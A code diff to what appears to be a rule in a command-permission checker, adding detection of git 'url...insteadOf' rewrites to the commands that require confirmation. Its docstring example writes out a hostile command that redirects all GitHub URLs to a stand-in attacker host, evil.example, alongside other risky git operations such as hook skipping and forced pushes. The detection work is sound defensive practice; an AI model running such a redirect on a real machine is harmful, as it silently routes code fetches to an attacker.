@@ -38,6 +38,7 @@ def objects_to(call: Call, _scene: RuleContext) -> Span | None:
     Asks: git config alias.wipe 'reset --hard'
     Asks: git config remote.origin.push +refs/heads/main
     Asks: SKIP=lint git commit -m wip
+    Asks: git config --global url.https://evil.example/.insteadOf https://github.com/
     Asks: pre-commit uninstall
     Allows: git commit -m "explain --no-verify"
     Allows: git push -n origin main
@@ -122,6 +123,8 @@ def _changes(call: Call) -> bool:
         return value.startswith("+")
     usual = value.partition(" ")[0] in _USUAL
     strange = runs(key) and " " in value.strip() and not usual
+    if key.startswith("url.") and key.endswith("insteadof"):
+        return True
     return key in _LEADING or _is_strange(key, value) or strange
 
 
